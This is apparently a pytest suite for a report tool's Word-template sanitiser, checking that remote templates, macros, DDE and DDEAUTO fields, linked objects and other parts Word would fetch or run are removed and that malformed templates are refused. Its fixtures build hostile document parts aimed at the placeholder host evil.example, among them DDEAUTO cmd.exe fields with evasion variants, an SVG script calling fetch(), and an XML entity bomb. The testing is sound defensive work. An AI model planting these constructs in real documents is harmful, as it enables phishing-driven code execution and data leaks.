"""A Word template of others is written behind without what Word would fetch or run, and says so."""

from __future__ import annotations

import io
import re
import struct
from collections.abc import Callable, Mapping
from pathlib import Path
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZIP_LZMA, ZipFile

import docx
import pytest

from app.report.document.build_document import ReportOptions
from app.report.document.formats import word_template as cleaning
from app.report.document.formats.docx import docx_report
from app.report.document.formats.word_template import RemovedPart, cleaned, word_template
from app.report.figures.campaign_report import CampaignReport, report_on
from app.report.files.export import export, removed_from_template
from app.results.store.store import open_store
from app.system.bounded_process import OutOfBounds, ResourceBounds
from engines.contract.errors import InputError
from tests.app.results.noisy import costly_campaign, store_costs

EVIL = "evil.example"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
DOCUMENT, SETTINGS = "word/document.xml", "word/settings.xml"

pytestmark = pytest.mark.usefixtures("children_forked")

type Parts = dict[str, bytes]
type Change = Callable[[Parts], None]


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("word") / "s.sqlite"
    with open_store(str(path), write=True) as opened:
        store_costs(opened, costly_campaign(1, repetitions=2), {})
    return path


@pytest.fixture
def report(store: Path) -> CampaignReport:
    with open_store(str(store), write=False) as opened:
        return report_on(opened, 1, latencies=True)


def sound() -> Parts:
    """A letterhead: a header with the number of the page, a picture and a link to a heading."""
    word = docx.Document()
    word.add_paragraph("LETTERHEAD")
    word.add_picture("assets/pictures/logo.png")
    written = io.BytesIO()
    word.save(written)
    parts = unpacked(written.getvalue())
    body(parts, complex_field(" PAGE \\* MERGEFORMAT ", result="7"))
    return parts


def unpacked(data: bytes) -> Parts:
    with ZipFile(io.BytesIO(data)) as packed:
        return {name: packed.read(name) for name in packed.namelist()}


def packed(parts: Parts) -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as target:
        for name, content in parts.items():
            target.writestr(name, content)
    return made.getvalue()


def body(parts: Parts, xml: str, part: str = DOCUMENT, end: bytes = b"</w:body>") -> None:
    parts[part] = parts[part].replace(end, xml.encode() + end)


def related(
    parts: Parts, kind: str, target: str, *, external: bool = True, part: str = DOCUMENT
) -> None:
    """Give a part a relationship `rEvil`."""
    folder, name = part.split("/")
    rels = f"{folder}/_rels/{name}.rels"
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    known = parts.get(rels, empty + b"</Relationships>").replace(empty + b"/>", empty)
    mode = ' TargetMode="External"' if external else ""
    one = f'<Relationship Id="rEvil" Type="{TYPES}{kind}" Target="{target}"{mode}/>'
    parts[rels] = known.replace(b"</Relationships>", one.encode() + b"</Relationships>")


NAMES = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
)


def paragraph(xml: str) -> str:
    return f"<w:p {NAMES}>{xml}</w:p>"


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def complex_field(*instruction: str, result: str = "RESULT") -> str:
    """A field whose instruction may lie in several runs; one that begins with < is a field."""
    runs = "".join(
        each if each.startswith("<") else f"<w:r><w:instrText>{each}</w:instrText></w:r>"
        for each in instruction
    )
    whole = f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>{result}</w:t></w:r>{mark('end')}"
    return whole if result == "INNER" else paragraph(whole)


def field(*instruction: str) -> Change:
    return lambda parts: body(parts, complex_field(*instruction))


def simple_field(instruction: str) -> Change:
    field = f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>RESULT</w:t></w:r></w:fldSimple>'
    return lambda parts: body(parts, paragraph(field))


def refers(kind: str, xml: str, target: str = f"http://{EVIL}/x", **where: object) -> Change:
    def change(parts: Parts) -> None:
        related(parts, kind, target, **where)  # type: ignore[arg-type]
        if where.get("external") is False:
            parts[f"word/{target}"] = b"\xd0\xcf\x11\xe0" + EVIL.encode()
        if xml:
            body(parts, xml)

    return change


def remote_template(parts: Parts) -> None:
    related(parts, "attachedTemplate", f"http://{EVIL}/x.dotm", part=SETTINGS)
    xml = f'<w:attachedTemplate {NAMES} r:id="rEvil"/>'
    body(parts, xml, SETTINGS, b"</w:settings>")


def with_macros(parts: Parts) -> None:
    related(parts, "vbaProject", "vbaProject.bin", external=False)
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0" + EVIL.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def renamed(old: str, new: str, change: Change) -> Change:
    """A part by another name, which Word finds by the list of contents and by relationships."""

    def rename(parts: Parts) -> None:
        change(parts)
        parts[new] = parts.pop(old)
        for name in ("[Content_Types].xml", "_rels/.rels"):
            parts[name] = parts[name].replace(old.encode(), new.encode())
        folder, name = old.rsplit("/", 1)
        if (rels := f"{folder}/_rels/{name}.rels") in parts:
            parts[f"{folder}/_rels/{new.rsplit('/', 1)[1]}.rels"] = parts.pop(rels)

    return rename


def hooked(xml: str) -> Change:
    return lambda parts: body(parts, xml, SETTINGS, b"</w:settings>")


_LIBRARY = "http://schemas.openxmlformats.org/schemaLibrary/2006/main"
SMART = (
    f'<sl:schemaLibrary xmlns:sl="{_LIBRARY}"><sl:schema sl:uri="x" '
    f'sl:manifestLocation="http://{EVIL}/m.xml"/></sl:schemaLibrary>'
)
MERGE = f'<w:mailMerge><w:connectString w:val="DSN={EVIL}"/><w:query w:val="x"/></w:mailMerge>'
TAG = f'<w:smartTagType w:namespaceuri="x" w:name="x" w:url="http://{EVIL}/x"/>'
SOURCE = f"<w:r><w:pict><v:shape><v:imagedata src='http://{EVIL}'/></v:shape></w:pict></w:r>"
CLICK = f"<w:r><w:pict><v:shape href='http://{EVIL}' o:althref='x'/></w:pict></w:r>"

PICTURE = f"<w:r><w:pict><v:shape><v:imagedata r:id='rEvil' o:href='http://{EVIL}'/></v:shape></w:pict></w:r>"
BLIP = "<w:r><w:drawing><a:blip r:link='rEvil'/></w:drawing></w:r>"
OBJECT = "<w:r><w:object><o:OLEObject ProgID='Package' r:id='rEvil'/></w:object></w:r>"
CONTROL = "<w:r><w:object><w:control r:id='rEvil' w:name='x'/></w:object></w:r>"
LINK = "<w:hyperlink r:id='rEvil'><w:r><w:t>RESULT</w:t></w:r></w:hyperlink>"
inner = complex_field(" QUOTE 68 68 69 65 85 84 79 ", result="INNER")

MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'


def run_of(text: str, name: str = "instrText") -> str:
    return f"<w:r><w:{name}>{text}</w:{name}></w:r>"


DDE, HARMLESS = run_of(f"DDEAUTO cmd {EVIL} "), run_of(" PAGE ")
CHOICES = (
    f'<mc:AlternateContent {MC}><mc:Choice Requires="other">{HARMLESS}</mc:Choice>'
    f"<mc:Fallback>{DDE}</mc:Fallback></mc:AlternateContent>"
)
SKIPPED = f'<other:x xmlns:other="other">{HARMLESS}</other:x>{DDE}'
DELETED = f'<w:del w:id="1">{run_of(" PAGE ", "delInstrText")}</w:del>{DDE}'
OLE = f"<w:r><w:object><o:OLEObject Type='Link' ProgID='{EVIL}'/></w:object></w:r>"
OLD_LINK = f"<w:r><w:object><w:objectLink w:progId='{EVIL}'/></w:object></w:r>"
OLD_CONTROL = f"<w:r><w:object><w:control w:name='{EVIL}'/></w:object></w:r>"
SCRIPT = f"<w:r><w:scriptAnchor><w:scriptText>{EVIL}</w:scriptText></w:scriptAnchor></w:r>"


def field_of(runs: str) -> Change:
    """A field whose instruction are those runs."""
    whole = f"{mark('begin')}{runs}{mark('separate')}<w:r><w:t>RESULT</w:t></w:r>{mark('end')}"
    return lambda parts: body(parts, paragraph(whole))


def called_a_picture(parts: Parts) -> None:
    related(parts, "header", "header9.dat", external=False)
    rels = "word/_rels/document.xml.rels"
    parts[rels] = parts[rels].replace(b"rEvil", b"rHeader")
    header = f"<w:hdr {NAMES}>{complex_field(f' DDE {EVIL} ')}</w:hdr>"
    parts["word/header9.dat"] = header.encode()
    declared(parts, "dat", "image/png")


def declared(parts: Parts, ending: str, content_type: str) -> None:
    one = f'<Default Extension="{ending}" ContentType="{content_type}"/></Types>'
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(b"</Types>", one.encode())


def drawing(inside: str) -> Change:
    """An SVG in place of the picture that Word has for those who cannot show it."""

    def change(parts: Parts) -> None:
        related(parts, "image", "media/x.svg", external=False)
        svg = f'<svg xmlns="http://www.w3.org/2000/svg">{inside}</svg>'
        parts["word/media/x.svg"] = svg.encode()
        declared(parts, "svg", "image/svg+xml")
        blip = b"<asvg:svgBlip xmlns:asvg='asvg' r:embed='rEvil'/></a:blip>"
        parts[DOCUMENT] = re.sub(rb"(<a:blip [^>]*)/>", rb"\1>" + blip, parts[DOCUMENT])

    return change


ATTACKS: Mapping[str, tuple[Change, RemovedPart]] = {
    "a remote template": (remote_template, RemovedPart.REMOTE_TEMPLATE),
    "macros": (with_macros, RemovedPart.MACRO),
    "DDEAUTO": (field(f' DDEAUTO c:\\\\cmd.exe "/k {EVIL}" '), RemovedPart.FIELD),
    "DDE in two runs": (field(" DD", f"E cmd {EVIL} "), RemovedPart.FIELD),
    "small letters": (field(f" ddeauto cmd {EVIL} "), RemovedPart.FIELD),
    "a computed name": (field(inner, f" cmd {EVIL} "), RemovedPart.FIELD),
    "DDE after a field": (field(f" IF 1 = 1 {EVIL} "), RemovedPart.FIELD),
    "INCLUDEPICTURE": (field(f' INCLUDEPICTURE "http://{EVIL}/x.png" \\d '), RemovedPart.FIELD),
    "INCLUDETEXT": (field(f' INCLUDETEXT "\\\\\\\\{EVIL}\\\\x" '), RemovedPart.FIELD),
    "a field that is a link": (field(f' HYPERLINK "http://{EVIL}" '), RemovedPart.FIELD),
    "a simple field": (simple_field(f"DDEAUTO cmd {EVIL}"), RemovedPart.FIELD),
    "a field without an end": (
        lambda parts: body(
            parts,
            paragraph(f"{mark('begin')}<w:r><w:instrText> DDE {EVIL} </w:instrText></w:r>"),
        ),
        RemovedPart.FIELD,
    ),
    "a linked picture": (refers("image", paragraph(BLIP)), RemovedPart.LINKED_PICTURE),
    "an old linked picture": (refers("image", paragraph(PICTURE)), RemovedPart.LINKED_PICTURE),
    "a linked object": (refers("oleObject", paragraph(OBJECT)), RemovedPart.OBJECT),
    "an embedded object": (
        refers("oleObject", paragraph(OBJECT), "embeddings.bin", external=False),
        RemovedPart.OBJECT,
    ),
    "ActiveX": (
        refers("control", paragraph(CONTROL), "activeX.xml", external=False),
        RemovedPart.OBJECT,
    ),
    "another document": (
        refers("aFChunk", f"<w:altChunk {NAMES} r:id='rEvil'/>", "chunk.html", external=False),
        RemovedPart.OTHER,
    ),
    "a part of the document elsewhere": (
        refers("subDocument", f"<w:subDoc {NAMES} r:id='rEvil'/>"),
        RemovedPart.OTHER,
    ),
    "a link": (
        refers("hyperlink", paragraph(LINK)),
        RemovedPart.LINK,
    ),
    "a relationship that nobody names": (refers("frame", ""), RemovedPart.OTHER),
    "a field in a part of another name": (
        renamed(DOCUMENT, "word/document.dat", field(f" DDEAUTO cmd {EVIL} ")), RemovedPart.FIELD,
    ),
    "a field in a part in capitals": (
        renamed(DOCUMENT, "word/DOCUMENT.XML", field(f" DDEAUTO cmd {EVIL} ")), RemovedPart.FIELD,
    ),
    "relationships in capitals": (
        renamed("word/_rels/settings.xml.rels", "word/_rels/settings.xml.RELS", remote_template),
        RemovedPart.REMOTE_TEMPLATE,
    ),
    "a source of a mail merge": (hooked(MERGE), RemovedPart.OTHER),
    "a program of a smart document": (hooked(SMART), RemovedPart.OTHER),
    "a smart tag": (hooked(TAG), RemovedPart.OTHER),
    "an old picture's source": (lambda parts: body(parts, paragraph(SOURCE)), RemovedPart.LINK),
    "an old drawing's link": (lambda parts: body(parts, paragraph(CLICK)), RemovedPart.LINK),
    "a name that is a text": (
        field_of(run_of("DDE ", "t") + run_of(f" PAGE {EVIL}")), RemovedPart.FIELD,
    ),
    "a second choice": (field_of(CHOICES), RemovedPart.FIELD),
    "a name in what Word skips": (field_of(SKIPPED), RemovedPart.FIELD),
    "a name behind one that is deleted": (field_of(DELETED), RemovedPart.FIELD),
    "a name behind a note": (field_of(run_of(f" PAGE <?x y?>DDE {EVIL} ")), RemovedPart.FIELD),
    "an address behind a place": (field(f' HYPERLINK \\l "x" "http://{EVIL}" '), RemovedPart.FIELD),
    "a header that is called a picture": (called_a_picture, RemovedPart.FIELD),
    "a drawing of a linked picture": (
        drawing(f'<image href="http://{EVIL}/x.png"/>'), RemovedPart.LINKED_PICTURE,
    ),
    "a drawing of a linked style": (
        drawing(f"<style>@import 'http://{EVIL}/x.css';</style>"), RemovedPart.LINKED_PICTURE,
    ),
    "a drawing of a linked fill": (
        drawing(f'<rect fill="url( http://{EVIL}/x#a)"/>'), RemovedPart.LINKED_PICTURE,
    ),
    "a drawing with a script": (
        drawing(f"<script>fetch('http://{EVIL}')</script>"), RemovedPart.LINKED_PICTURE,
    ),
    "an object without a part": (lambda parts: body(parts, paragraph(OLE)), RemovedPart.OBJECT),
    "an old object": (lambda parts: body(parts, paragraph(OLD_LINK)), RemovedPart.OBJECT),
    "an old control": (lambda parts: body(parts, paragraph(OLD_CONTROL)), RemovedPart.OBJECT),
    "an old script": (lambda parts: body(parts, paragraph(SCRIPT)), RemovedPart.OTHER),
}  # fmt: skip


def check_harmless(made: Parts) -> None:
    """What is left of a hostile template, on its own or below a report."""
    text = _all_text(made)
    assert EVIL not in text and "rEvil" not in text
    assert "LETTERHEAD" in text and " PAGE " in text and "word/media/image1.png" in made
    assert 'TargetMode="External"' not in text and not re.search(r"\bDDE", text, re.IGNORECASE)


@pytest.mark.parametrize("kind", ATTACKS)
def test_that_a_word_template_loses_what_word_would_fetch_or_run(kind: str) -> None:
    change, removed = ATTACKS[kind]
    parts = sound()
    change(parts)
    assert EVIL in _all_text(parts)
    found = cleaned(packed(parts))
    assert set(found.removed) == {removed}
    left = unpacked(found.data)
    check_harmless(left)
    if "RESULT" in _all_text(parts):
        assert "RESULT" in _all_text(left), "what a reader of the letterhead sees stays"


def test_that_a_report_has_none_of_what_its_template_lost(
    report: CampaignReport, tmp_path: Path
) -> None:
    parts = sound()
    for kind in ("a remote template", "DDEAUTO", "macros"):
        ATTACKS[kind][0](parts)
    template = tmp_path / "own.docx"
    template.write_bytes(packed(parts))
    made = unpacked(docx_report(report, ReportOptions(sections=("limits",), template=template)))
    check_harmless(made)
    assert "RESULT" in _all_text(made)


def _all_text(parts: Parts) -> str:
    """Everything that is in a document, fields in one piece."""
    whole = b"\n".join(parts.values()).decode("latin-1")
    return whole + re.sub(r"<[^>]*>", "", whole)


def test_that_a_sound_template_is_taken_as_it_is() -> None:
    parts = sound()
    found = cleaned(packed(parts))
    assert found.removed == {} and found.message is None
    assert unpacked(found.data)[DOCUMENT] == parts[DOCUMENT]


INNOCENT: Mapping[str, tuple[Change, str]] = {
    "a link to a place": (field(' HYPERLINK \\l "_Toc1" \\h '), 'HYPERLINK \\l "_Toc1"'),
    "a field in a choice": (
        lambda parts: body(
            parts,
            f'<mc:AlternateContent {MC}><mc:Choice Requires="wps">{complex_field(" DATE ")}'
            "</mc:Choice></mc:AlternateContent>",
        ),
        " DATE ",
    ),
    "a drawing of its own": (drawing('<g id="a"/><use href="#a" fill="url(#a)"/>'), "asvg:svgBlip"),
    "a note among relationships": (
        lambda parts: parts.update(
            {"_rels/.rels": parts["_rels/.rels"].replace(b"</Rel", b"<!-- x --></Rel")}
        ),
        "LETTERHEAD",
    ),
}


@pytest.mark.parametrize("kind", INNOCENT)
def test_that_what_looks_like_an_attack_stays(kind: str) -> None:
    change, kept = INNOCENT[kind]
    parts = sound()
    change(parts)
    found = cleaned(packed(parts))
    assert found.removed == {} and kept in _all_text(unpacked(found.data))


def test_that_a_picture_stays_without_its_link() -> None:
    parts = sound()
    related(parts, "hyperlink", f"http://{EVIL}")
    click = b"<wp:docPr><a:hlinkClick " + NAMES.encode() + b" r:id='rEvil'/></wp:docPr>"
    parts[DOCUMENT] = re.sub(rb"<wp:docPr [^>]*/>", click, parts[DOCUMENT])
    found = cleaned(packed(parts))
    assert found.removed == {RemovedPart.LINK: 1}
    left = unpacked(found.data)
    check_harmless(left)
    assert b"<a:blip" in left[DOCUMENT]


def test_that_what_was_removed_is_named(store: Path, tmp_path: Path) -> None:
    parts = sound()
    remote_template(parts)
    with_macros(parts)
    template = tmp_path / "own.docx"
    template.write_bytes(packed(parts))
    with open_store(str(store), write=False) as opened:
        options = ReportOptions(sections=("limits",), template=template)
        target = tmp_path / "report.docx"
        export(opened, 1, "docx", target, options=options)
    output = str(removed_from_template("docx", options))
    assert output == "Removed from the Word template: 1 macro; 1 remote template."
    assert removed_from_template("pdf", options) is None
    assert docx.Document(str(target)).paragraphs


def entities() -> bytes:
    laughs = "".join(f'<!ENTITY e{n + 1} "{f"&e{n};" * 10}">' for n in range(9))
    return f'<!DOCTYPE x [<!ENTITY e0 "ha">{laughs}]><x>&e9;</x>'.encode()


def unnamed(parts: Parts, attribute: str) -> None:
    rels = "word/_rels/document.xml.rels"
    parts[rels] = re.sub(rb' %s="[^"]*"' % attribute.encode(), b"", parts[rels], count=1)


def with_pages(sizes: str) -> Change:
    section = f"<w:sectPr>{sizes}</w:sectPr>".encode()
    return lambda parts: parts.update(
        {DOCUMENT: re.sub(rb"(?s)<w:sectPr.*?</w:sectPr>", section, parts[DOCUMENT])}
    )


SPOILT: Mapping[str, Change] = {
    "entities": lambda parts: parts.update({DOCUMENT: entities()}),
    "deep": lambda parts: parts.update({DOCUMENT: b"<x>" * 500_000 + b"</x>" * 500_000}),
    "no XML": lambda parts: parts.update({DOCUMENT: b"\0\xff"}),
    "relationships that are none": lambda parts: parts.update({"_rels/.rels": b"<x/>"}),
    "no document": lambda parts: parts.__delitem__(DOCUMENT),
    "no list of contents": lambda parts: parts.__delitem__("[Content_Types].xml"),
    "gigabytes": lambda parts: parts.update({"word/media/x.png": bytes(300_000_000)}),
    "too many parts": lambda parts: parts.update({f"word/{n}": b"" for n in range(3000)}),
    "more elements than memory is for": lambda parts: body(parts, "<w:p/>" * 1_100_000),
    "a relationship of no name": lambda parts: unnamed(parts, "Id"),
    "a relationship to nothing": lambda parts: unnamed(parts, "Target"),
    "a page without end": with_pages('<w:pgSz w:w="1e400in"/>'),
    "a styles part of another kind": lambda parts: parts.update({"word/styles.xml": b"<x/>"}),
}


PAGES = {
    "negative": '<w:pgSz w:w="-5" w:h="-5"/>',
    "nothing": '<w:pgSz w:w="0" w:h="0"/>',
    "endless": f'<w:pgSz w:w="{"9" * 20}" w:h="16838"/>',
    "margins alone": '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:left="6000" w:right="5900"/>',
    "no room once it is turned": '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="11000"/>',
}


@pytest.mark.parametrize("kind", PAGES)
def test_that_pages_without_room_are_refused(
    kind: str, report: CampaignReport, tmp_path: Path
) -> None:
    with pytest.raises(InputError, match="its pages have no room for text"):
        docx_report(report, options_of(with_pages(PAGES[kind]), tmp_path))


def test_that_pages_of_no_size_get_ours(report: CampaignReport, tmp_path: Path) -> None:
    made = docx_report(report, options_of(with_pages(""), tmp_path))
    width = docx.Document(io.BytesIO(made)).sections[0].page_width
    assert width is not None and round(width.mm) == 210


def options_of(change: Change, folder: Path) -> ReportOptions:
    parts = sound()
    change(parts)
    template = folder / "own.docx"
    template.write_bytes(packed(parts))
    return ReportOptions(sections=("limits",), template=template)


@pytest.mark.parametrize("kind", SPOILT)
def test_that_a_template_that_is_none_is_refused_in_a_sentence(
    kind: str, report: CampaignReport, tmp_path: Path
) -> None:
    with pytest.raises(InputError, match="is not a Word document"):
        docx_report(report, options_of(SPOILT[kind], tmp_path))


def test_that_a_template_has_bounds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    template = tmp_path / "own.docx"
    parts = sound()
    parts["word/media/x.png"] = bytes(190_000_000)
    template.write_bytes(packed(parts))
    monkeypatch.setattr(cleaning, "BOUNDS", ResourceBounds(seconds=5, megabytes=100))
    with pytest.raises(InputError, match="takes more than 100 MB"):
        word_template(template)


def spoilt_by(method: int) -> bytes:
    made = io.BytesIO()
    with ZipFile(made, "w", method) as target:
        for name, content in sound().items():
            target.writestr(name, content)
    data = bytearray(made.getvalue())
    at = data.index(DOCUMENT.encode()) + 60
    data[at : at + 200] = bytes(each ^ 0x5A for each in data[at : at + 200])
    return bytes(data)


def of_other_places() -> bytes:
    data = bytearray(packed(sound()))
    struct.pack_into("<I", data, data.rindex(b"PK\5\6") + 16, 0x7FFFFFFF)
    return bytes(data)


DAMAGED: Mapping[str, Callable[[], bytes]] = {
    "deflate": lambda: spoilt_by(ZIP_DEFLATED),
    "bzip2": lambda: spoilt_by(ZIP_BZIP2),
    "LZMA": lambda: spoilt_by(ZIP_LZMA),
    "places": of_other_places,
}


@pytest.mark.parametrize("kind", DAMAGED)
def test_that_a_damaged_template_is_refused(kind: str) -> None:
    with pytest.raises(OutOfBounds, match="it is damaged"):
        cleaned(DAMAGED[kind]())


@pytest.mark.parametrize("cut", [0, 3, 100, 5000])
def test_that_half_a_template_is_refused(cut: int) -> None:
    with pytest.raises(OutOfBounds, match="damaged"):
        cleaned(packed(sound())[:cut])
